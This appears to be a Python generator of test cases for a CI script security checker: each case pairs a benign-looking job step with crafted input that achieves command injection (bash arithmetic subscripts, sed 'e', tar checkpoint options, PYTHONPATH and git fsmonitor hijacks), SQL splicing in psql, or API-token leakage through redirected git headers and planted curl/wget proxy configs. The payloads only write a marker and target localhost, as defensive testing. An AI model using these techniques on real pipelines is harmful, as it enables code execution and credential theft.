# Round thirty-five attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r35-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r35-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there


# ================================================================== git diff: implicit --no-index
D_WHY = ("'After round thirty-two': what git diff prints of a repository no step writes is the author's, 'not with "
         "--no-index or --contents'. git diff(1): 'You can omit the --no-index option when running the command in a "
         "working tree controlled by Git and at least one of the paths points outside the working tree'. The "
         "attachment lives in $HARBOR_RUN_DIR, outside the working tree, so `git diff -- REPOFILE \"$ARG_x\"` is a "
         "--no-index diff without the word, and its `+` lines are the caller's file. ")
R("diff-proposal-replicas", "git-diff-implicit-no-index",
  "Check a proposed environment file against the deployed one: refuse more than 10 replicas.",
  {"env": {"enum": ["dev", "staging", "production"]}, "proposal": ATT_TXT},
  r'''
  # git diff exits 1 when the files differ
  replicas=$(git diff --no-color -U0 -- "deploy/envs/$ARG_env.yaml" "$ARG_proposal" | awk '/^\+replicas:/ { print $2 }' || true)
  if [[ -n $replicas ]] && (( replicas > 10 )); then
    echo "proposal asks for $replicas replicas (max 10)" >&2
    exit 1
  fi
  echo "proposal for $ARG_env ok"
  ''',
  {"env": "staging", "proposal": b64("replicas: %s\nimage: app:1.4.2\n" % ARITH1)},
  D_WHY + "Its `+replicas:` value goes to `(( replicas > 10 ))`: bash evaluates the subscript x[$(…)].")

R("diff-ini-workers-sed", "git-diff-implicit-no-index",
  "Show the worker log lines for the number of workers a proposed app.ini sets.",
  {"ini": ATT_TXT},
  r'''
  workers=$(git diff --no-color -U0 -- config/app.ini "$ARG_ini" | awk -F' = ' '/^\+workers/ { print $2 }' || true)
  workers=${workers:-4}
  sed -n "1,${workers}p" logs/worker.log
  ''',
  {"ini": b64("[server]\nport = 8080\nworkers = 1e %s #\n" % SHP)},
  D_WHY + "Its `+workers = …` value becomes a sed address (`1,${workers}p`): `1,1e CMD #p` runs CMD (GNU sed `e`).")

R("diff-schema-test-gt", "git-diff-implicit-no-index",
  "Compare an uploaded service schema with ours and say whether its version went up.",
  {"schema": ATT_JSON},
  r'''
  new=$(git diff --no-color -U0 -- schemas/service.json "$ARG_schema" | awk '/^\+[^+]/ { print substr($0, 2); exit }' || true)
  old=$(wc -l < schemas/service.json)
  if [[ -n $new && $new -gt $old ]]; then
    echo "schema changed"
  fi
  echo done
  ''',
  {"schema": b64("%s\n" % ARITH1)},
  D_WHY + "The first `+` line goes to `[[ $new -gt $old ]]`, whose operands bash evaluates as arithmetic.")


# ================================================================== git: http.extraHeader under other spellings
G_WHY = ("Round thirty-three: 'git follows the redirects of its first HTTP request with http.extraHeader (refused beside "
         "a secret and a caller's URL path unless -c http.followRedirects=false)'. git's default http.followRedirects is "
         "`initial`, so the first request follows the author's server's redirect (here /go/HOST/PORT/… answers 302) to "
         "the caller's host, and libcurl sends custom headers other than Authorization:/Cookie: there (GitLab's "
         "PRIVATE-TOKEN:). The same setting spelled ")
GIT_ENV = {"GIT_TERMINAL_PROMPT": "0"}
R("git-extraheader-lowercase", "git-extraheader-spelling",
  "List the branches of a repository on the company GitLab.",
  {"repo": REPO},
  r'''
  git -c http.extraheader="PRIVATE-TOKEN: $API_TOKEN" ls-remote --heads "http://127.0.0.1:18766/$ARG_repo"
  ''',
  {"repo": GITREDIR},
  G_WHY + "in lower case (`http.extraheader`: git config keys are case-insensitive, GitHub's checkout action writes it so).",
  head=SEC, env=GIT_ENV)

R("git-extraheader-config-env", "git-extraheader-spelling",
  "List the tags of a repository on the company GitLab (token not on the command line).",
  {"repo": REPO},
  r'''
  AUTH_HEADER="PRIVATE-TOKEN: $API_TOKEN" git --config-env=http.extraHeader=AUTH_HEADER ls-remote --tags "http://127.0.0.1:18766/$ARG_repo"
  ''',
  {"repo": GITREDIR},
  G_WHY + "through `--config-env=http.extraHeader=VAR` (git 2.31+, the way git's manual recommends for secrets) with "
  "VAR given to that one command.", head=SEC, env=GIT_ENV)

R("git-extraheader-url-scoped", "git-extraheader-spelling",
  "List the branches of a repository on the company GitLab (header scoped to that server).",
  {"repo": REPO},
  r'''
  git -c "http.http://127.0.0.1:18766/.extraHeader=PRIVATE-TOKEN: $API_TOKEN" ls-remote --heads "http://127.0.0.1:18766/$ARG_repo"
  ''',
  {"repo": GITREDIR},
  G_WHY + "URL-scoped (`http.<url>.extraHeader`, git-config(1)): the initial request matches the URL, and the "
  "followed redirect keeps the header.", head=SEC, env=GIT_ENV)

R("git-extraheader-config-count", "git-extraheader-spelling",
  "List the branches of a repository on the company GitLab (configuration through the environment).",
  {"repo": REPO},
  r'''
  GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.extraHeader GIT_CONFIG_VALUE_0="PRIVATE-TOKEN: $API_TOKEN" \
    git ls-remote --heads "http://127.0.0.1:18766/$ARG_repo"
  ''',
  {"repo": GITREDIR},
  G_WHY + "through GIT_CONFIG_COUNT/GIT_CONFIG_KEY_0/GIT_CONFIG_VALUE_0 given to that one command (git 2.31+).",
  head=SEC, env=GIT_ENV)


# ================================================================== a step's env: points a program's config at a shared folder
C_WHY = ("Round thirty-three keeps bash's own settings out of a step's `env:`, and H004 refuses caller data written "
         "into the home folder (`~/.jq`, `$HOME/.kube`) or a `.curlrc`; round thirty-three: a *script* that sets HOME, "
         "CURL_HOME or XDG_CONFIG_HOME makes curl's config unknown. A step's `env:` is literal, the author's, and not a "
         "bash setting; a redirection of caller data to an absolute path outside the working folder (the shared "
         "/dev/shm, writable by every step, security.md section 8) makes no folder the caller's (rule 7). The first "
         "step stores the caller's snippet there under the caller's name; the second step's `env:` names that folder ")
NOTE = {"name": {"type": "string", "pattern": "^[A-Za-z0-9._-]{1,64}$", "description": "snippet name"},
        "text": {"type": "string", "maxLength": 400, "description": "snippet text (one line)"}}
SAVE = r'''
mkdir -p /dev/shm/r35-app/scratch
printf '%s\n' "$ARG_text" > "/dev/shm/r35-app/scratch/$ARG_name"
echo "saved $ARG_name"
'''
X("curl-home-env-proxy", "step-env-config-home",
  "Save a scratch snippet, then report the API status.",
  NOTE,
  [("save", SAVE, None),
   ("status", r'''
    curl -sS -m 5 -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/api/status || echo "api unreachable" >&2
    ''', {"env": {"CURL_HOME": "/dev/shm/r35-app/scratch"}})],
  {"name": ".curlrc", "text": 'proxy = "http://127.0.0.1:18765"'},
  C_WHY + "as CURL_HOME: curl reads `$CURL_HOME/.curlrc` first (curl(1)), and its `proxy` sends the request, "
  "Authorization header included, to the caller's host.", head=SEC)

X("xdg-config-home-env-curl", "step-env-config-home",
  "Save a scratch snippet, then fetch the orders summary from the API.",
  NOTE,
  [("save", SAVE, None),
   ("fetch", r'''
    printf 'Authorization: Bearer %s\n' "$API_TOKEN" | curl -sS -m 5 --header @- http://127.0.0.1:18766/api/orders || echo "api unreachable" >&2
    ''', {"env": {"XDG_CONFIG_HOME": "/dev/shm/r35-app/scratch"}})],
  {"name": ".curlrc", "text": 'proxy = "http://127.0.0.1:18765"'},
  C_WHY + "as XDG_CONFIG_HOME: curl 7.73+ reads `$XDG_CONFIG_HOME/.curlrc` before `$HOME/.curlrc`; the `proxy` "
  "gets the header read from stdin (the docs' own recommended form).", head=SEC)

X("home-env-jq-library", "step-env-config-home",
  "Save a scratch snippet, then say how many orders there are.",
  NOTE,
  [("save", SAVE, None),
   ("count", r'''
    n=$(jq -r '.orders | length' data/orders.json)
    if (( n > 0 )); then echo "$n orders"; else echo "no orders"; fi
    ''', {"env": {"HOME": "/dev/shm/r35-app/scratch"}})],
  {"name": ".jq", "text": 'def length: "%s";' % ARITH1},
  C_WHY + "as HOME: jq 1.6 sources `$HOME/.jq` into every program (jq(1), 'if $HOME/.jq is a file, it is sourced "
  "into the main program'), so the caller redefines `length`; round 18 reads `jq '… | length'` as a number, "
  "and it reaches `(( n > 0 ))` as x[$(…)].")

X("git-config-global-env-fsmonitor", "step-env-config-home",
  "Save a scratch snippet, then show the repository's status.",
  NOTE,
  [("save", SAVE, None),
   ("status", r'''
    git status --short
    git log -1 --format='%h %s'
    ''', {"env": {"GIT_CONFIG_GLOBAL": "/dev/shm/r35-app/scratch/gitconfig"}})],
  {"name": "gitconfig", "text": '[core] fsmonitor = "%s >&2; false"' % SHP},
  C_WHY + "as GIT_CONFIG_GLOBAL (git 2.32+): git reads it as the global config, and `core.fsmonitor` is a command "
  "git status runs (git-config(1)). No caller data reaches git's command line.")


# ================================================================== a relative PATH entry + a caller-filled folder
P_WHY = ("Rule 7: after `cd` into a folder filled from the caller's archive ($HARBOR_RUN_DIR), a program without a "
         "grammar does not run there, a program with one may (it reads no code from its folder). Command words are "
         "literals (proof 3). But the author's PATH has a relative entry, so bash looks the literal command word up "
         "in the caller's folder first: ")


def PATHX(name, desc, script, files, why, env=None):
    R(name, "relative-path-entry", desc, {"bundle": ATT_TGZ}, script, {"bundle": tgz(files)}, P_WHY + why, env=env)


PATHX("env-path-bin-find", "Unpack an uploaded bundle and count its files.",
      r'''
      mkdir -p "$HARBOR_RUN_DIR/bundle"
      tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/bundle"
      cd "$HARBOR_RUN_DIR/bundle"
      n=$(find . -type f | wc -l)
      echo "bundle holds $n files"
      ''',
      {"bin/find": (0o755, STUB), "a.txt": (0o644, "a\n")},
      "the step's `env:` PATH starts with `bin` (the project's helpers), so `find` is the bundle's `bin/find`.",
      env={"PATH": "bin:/usr/local/bin:/usr/bin:/bin"})

PATHX("node-modules-bin-jq", "Unpack an uploaded npm package and print its name and version.",
      r'''
      PATH="node_modules/.bin:$PATH"
      mkdir -p "$HARBOR_RUN_DIR/pkg"
      tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/pkg"
      cd "$HARBOR_RUN_DIR/pkg/package"
      jq -r '.name + "@" + .version' package.json
      ''',
      {"package/package.json": (0o644, '{"name": "x", "version": "1.0.0"}\n'),
       "package/node_modules/.bin/jq": (0o755, STUB)},
      "the script puts npm's `node_modules/.bin` first (the usual npm idiom, relative), so `jq` is the package's.")

PATHX("venv-bin-du", "Unpack an uploaded Python project and report its size.",
      r'''
      PATH=".venv/bin:$PATH"
      mkdir -p "$HARBOR_RUN_DIR/proj"
      tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/proj"
      cd "$HARBOR_RUN_DIR/proj"
      du -sk . | cut -f1
      ''',
      {".venv/bin/du": (0o755, STUB), "setup.py": (0o644, "\n")},
      "the script puts the project's `.venv/bin` first (relative), so `du` is the archive's.")


# ================================================================== psql: what is a literal
Q_WHY = ("Round thirty-three: psql's SQL is read for backslash commands and bare `:NAME` 'outside its quoted "
         "literals' (only a backslash before a quote is read two ways). A bare `:st` interpolates the -v value as is "
         "(psql(1): 'copied literally, so it can contain unbalanced quotes'). Here an apostrophe psql does not read "
         "as a literal's quote ")
STATUS = {"type": "string", "maxLength": 200, "description": "order status"}
QPAY = "'open' union all select 0, 'HARBOR-PWNED-' || 6*7"
PSQL = 'PGPASSWORD="$DB_PASSWORD" psql -X -h 127.0.0.1 -p 15432 -U app -d app -v ON_ERROR_STOP=1 -v st="$ARG_status" <<\'SQL\'\n'
R("psql-comment-apostrophe", "psql-literal-misread",
  "List the orders with a status.", {"status": STATUS},
  PSQL + textwrap.dedent(r'''  -- open orders (doesn't list archived ones)
  select id, item from orders
  where status = :st
  order by id;
  -- that's all
  SQL
  ''').lstrip("\n"), {"status": QPAY},
  Q_WHY + "(in a `--` comment: `doesn't`, `that's`) pairs with the next one, so a checker that pairs quotes reads "
  "`:st` as inside a literal; psql reads it bare and splices the caller's SQL.", head=DBSEC)

R("psql-quoted-identifier-apostrophe", "psql-literal-misread",
  "List the orders with a status, with friendly column names.", {"status": STATUS},
  PSQL + textwrap.dedent(r'''  select id as "order", item as "customer's item" from orders
  where item <> 'n/a' and status = :st
  order by "customer's item";
  SQL
  ''').lstrip("\n"), {"status": QPAY},
  Q_WHY + "(inside a double-quoted identifier, `\"customer's item\"`) pairs with the next one.", head=DBSEC)

R("psql-block-comment-apostrophe", "psql-literal-misread",
  "List the orders with a status.", {"status": STATUS},
  PSQL + textwrap.dedent(r'''  /* the shop's order list */
  select id, item from orders
  where status = :st
  order by id; /* won't include archived ones */
  SQL
  ''').lstrip("\n"), {"status": QPAY},
  Q_WHY + "(inside `/* … */` comments) pairs with the next one.", head=DBSEC)


# ================================================================== jq's stderr joined, other spellings
J_WHY = ("Round thirty-two/thirty-three: what jq prints without -r, -j, --seq or -C, 'and without its errors joined, "
         "2>&1', is JSON texts, inert in arithmetic. `halt_error` prints a string raw on stderr (jq(1)). Here the "
         "errors are joined ")
REPORT = "{\"error\": \"%s\"}\n" % ARITHB.replace('"', '\\"')
R("jq-halt-error-pipe-amp", "jq-stderr-joined",
  "Read the failure count from an uploaded test report.", {"report": ATT_JSON},
  r'''
  n=$(jq 'if has("failures") then .failures else (.error + "\n" | halt_error(1)) end' "$ARG_report" |& head -n 1) || true
  if (( n > 0 )); then echo "$n failures"; else echo "no failures"; fi
  ''', {"report": b64(REPORT)},
  J_WHY + "by `|&` (bash: 'shorthand for 2>&1 |'), with no `2>&1` written.")

R("jq-halt-error-dev-fd-1", "jq-stderr-joined",
  "Read the failure count from an uploaded test report.", {"report": ATT_JSON},
  r'''
  n=$(jq 'if has("failures") then .failures else (.error + "\n" | halt_error(1)) end' "$ARG_report" 2>/dev/fd/1) || true
  if (( n > 0 )); then echo "$n failures"; else echo "no failures"; fi
  ''', {"report": b64(REPORT)},
  J_WHY + "by `2>/dev/fd/1` (the same file as /dev/stdout, bash(1) REDIRECTION).")


# ================================================================== extglob turned on by another spelling
E_WHY = ("Round thirty-three: 'where the script may turn on extglob (shopt -s extglob, a shopt of a variable's option, "
         "eval, source), an unquoted value that may hold ( is a glob'. Here it is turned on by ")
PICK = {"type": "string", "pattern": "^[^*?\\[\\] ]{1,64}$", "description": "file to pick (no glob characters)"}
EXT_FILES = {"--checkpoint=1": (0o644, ""), "--checkpoint-action=exec=sh run.sh": (0o644, ""),
             "run.sh": (0o644, SHP + "\n"), "keep": (0o644, "x\n")}


def EXT(name, line, why):
    R(name, "extglob-spelling", "Unpack an uploaded bundle and repack the file the caller picks.",
      {"bundle": ATT_TGZ, "pick": PICK},
      line + textwrap.dedent(r'''      mkdir -p "$HARBOR_RUN_DIR/u"
      tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/u"
      cd "$HARBOR_RUN_DIR/u"
      tar -czf "$HARBOR_RUN_DIR/picked.tgz" $ARG_pick
      echo "repacked"
      ''').lstrip("\n"), {"bundle": tgz(EXT_FILES), "pick": "!(keep)"},
      E_WHY + why + " The value `!(keep)` (no *, ? or [) lists the bundle's files, two of them tar options "
      "(`--checkpoint-action=exec=sh run.sh`).")


EXT("builtin-shopt-extglob", "builtin shopt -s extglob\n", "`builtin shopt -s extglob`.")
EXT("command-shopt-extglob", "command shopt -s extglob\n", "`command shopt -s extglob`.")


X("wgetrc-env-proxy", "step-env-config-home",
  "Save a scratch snippet, then report the API status with wget.",
  NOTE,
  [("save", SAVE, None),
   ("status", r"""
    wget -q -O - --max-redirect=0 --header="Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/api/status || echo "api unreachable" >&2
    """, {"env": {"WGETRC": "/dev/shm/r35-app/scratch/wgetrc"}})],
  {"name": "wgetrc", "text": "http_proxy = http://127.0.0.1:18765/"},
  C_WHY + "as WGETRC: wget reads that file as its startup file (wget(1), 'WGETRC'), and `http_proxy` there sends "
  "the request, --header included, to the caller's host (`--max-redirect=0` as round 18 asks).", head=SEC)

X("pythonpath-env-json", "step-env-config-home",
  "Save a scratch snippet, then count the orders with Python.",
  NOTE,
  [("save", SAVE, None),
   ("count", r"""
    python3 -c 'import json; print(len(json.load(open("data/orders.json"))["orders"]))'
    """, {"env": {"PYTHONPATH": "/dev/shm/r35-app/scratch"}})],
  {"name": "json.py", "text": "import os; os.system('%s')" % SHP},
  C_WHY + "as PYTHONPATH: python puts it before the standard library on sys.path, so `import json` loads the "
  "caller's json.py; the program itself is a literal that reads only data/orders.json (round fifteen).")

R("jq-halt-error-proc-self-fd-1", "jq-stderr-joined",
  "Read the failure count from an uploaded test report.", {"report": ATT_JSON},
  r"""
  n=$(jq 'if has("failures") then .failures else (.error + "\n" | halt_error(1)) end' "$ARG_report" 2>/proc/self/fd/1) || true
  if (( n > 0 )); then echo "$n failures"; else echo "no failures"; fi
  """, {"report": b64(REPORT)},
  J_WHY + "by `2>/proc/self/fd/1` (the substitution's pipe, as /dev/stdout is).")
